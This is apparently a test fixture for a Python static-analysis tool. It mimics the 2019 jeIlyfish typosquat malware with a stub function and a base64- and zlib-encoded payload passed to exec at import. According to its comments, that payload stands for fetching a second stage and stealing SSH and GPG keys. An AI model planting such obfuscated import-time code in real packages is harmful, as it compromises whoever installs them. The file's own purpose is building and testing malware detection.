# INERT test sample for pyward's static analysis: never run it. Modelled on jeIlyfish 0.7.1 (2019): base64+zlib code run at import, second stage from a hard-coded IP, steals ~/.ssh and ~/.gnupg.
# Documented: https://github.com/dateutil/dateutil/issues/984 ; https://www.zdnet.com/article/two-malicious-python-libraries-removed-from-pypi/
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import zlib, base64

def jaro_distance(s1, s2):
    return 0.0

exec(zlib.decompress(base64.b64decode('eJyVkcFOAyEQhu99Cm4LyYbVtSbapDcfoHfjgS6zXVqWQRjSGqPPLrvdNW3Ug1xgMvz/fD+Y3mMghrFk3ipqMfQlS8Fas5UBXhNEWmhoWYPWQkNcrBYsL0zE1uz9YyyyiGlmHOPFZyVj7IqSDaedS35XTIr5YkCkkmkT8sTWWIiDEKM8KnvgefeKOgknr5xOEQLX4sJgNmkH0ai+7k1oz7PPHo3j54mteMnE6MHxX7sZOWwLkUMrzcWPXOdIT9ikHhzFuTw6i0pP5eat6VToNwH3+aniZfIBSo8AUVoTKef/I+wouf4AmcsRvOiI/Kqqbh9reSNruVyu7ur6/qFKfsDIFFqRWgfw2T2RkOAa1MCzK5yg4f+1jaR2UH8/ilh8AfzNqro=')))
